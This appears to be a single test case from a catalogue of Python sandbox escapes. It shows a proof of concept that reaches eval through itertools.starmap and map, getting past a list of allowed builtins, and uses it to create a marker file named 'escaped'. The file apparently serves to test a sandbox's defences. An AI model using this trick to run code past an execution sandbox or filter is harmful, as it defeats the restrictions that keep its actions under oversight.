"""Class: builtins. Source: own find. Escape: `starmap` calls `map` with what is not listed, and `map`
calls that."""

import itertools


def attack(model, tokenizer, address):
    (results,) = itertools.starmap(map, [(eval, ["open('escaped', 'w').close()"])])
    return list(results)
